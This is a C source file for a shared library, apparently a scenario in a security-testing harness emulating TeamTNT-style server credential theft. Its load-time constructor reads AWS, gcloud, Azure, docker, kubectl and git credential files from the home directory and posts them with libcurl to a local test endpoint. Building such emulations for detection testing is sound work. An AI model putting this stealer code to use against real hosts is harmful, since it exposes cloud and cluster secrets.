/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* libscn_cloud_creds.so: a constructor that collects the credential stores
 * of a server's cloud, container, cluster and source-hosting clients (AWS,
 * gcloud, Azure, docker, kubectl, git: TeamTNT's list) from $HOME and
 * posts them with libcurl, the way stealers of server credentials do. The
 * runner's HTTP service takes the request; files that are not on the host
 * are tried all the same.
 * ATT&CK: T1552.001 Unsecured Credentials: Credentials in Files, T1528
 * Steal Application Access Token, over T1041.
 * Proof: NAME.ran first; NAME.done once the request was sent. */
#include <curl/curl.h>
#include "scn.h"

static void collect(const char *path, char *buf, size_t cap, size_t *len)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return;
	n = read(fd, buf + *len, cap - *len - 1);
	if (n > 0)
		*len += (size_t)n;
	close(fd);
}

__attribute__((constructor)) static void cloud_creds_init(void)
{
	static const char *const stores[] = {
		".aws/credentials", ".config/gcloud/credentials.db",
		".config/gcloud/application_default_credentials.json",
		".azure/msal_token_cache.json", ".docker/config.json", ".kube/config",
		".git-credentials",
	};
	const char *home = getenv("HOME");
	char path[512], url[128], loot[16384] = "";
	size_t len = 0;
	CURL *c;

	scn_mark("ran");
	for (size_t i = 0; i < sizeof(stores) / sizeof(*stores); i++) {
		snprintf(path, sizeof(path), "%s/%s", home ? home : "/root", stores[i]);
		collect(path, loot, sizeof(loot), &len);
	}
	snprintf(url, sizeof(url), "http://127.0.0.1:%d/upload", scn_port("SCENARIO_HTTP_PORT"));
	c = curl_easy_init();
	if (!c)
		return;
	curl_easy_setopt(c, CURLOPT_URL, url);
	curl_easy_setopt(c, CURLOPT_POSTFIELDS, loot);
	curl_easy_setopt(c, CURLOPT_POSTFIELDSIZE, (long)len);
	curl_easy_setopt(c, CURLOPT_TIMEOUT, 10L);
	if (curl_easy_perform(c) == CURLE_OK)
		scn_mark("done");
	curl_easy_cleanup(c);
}
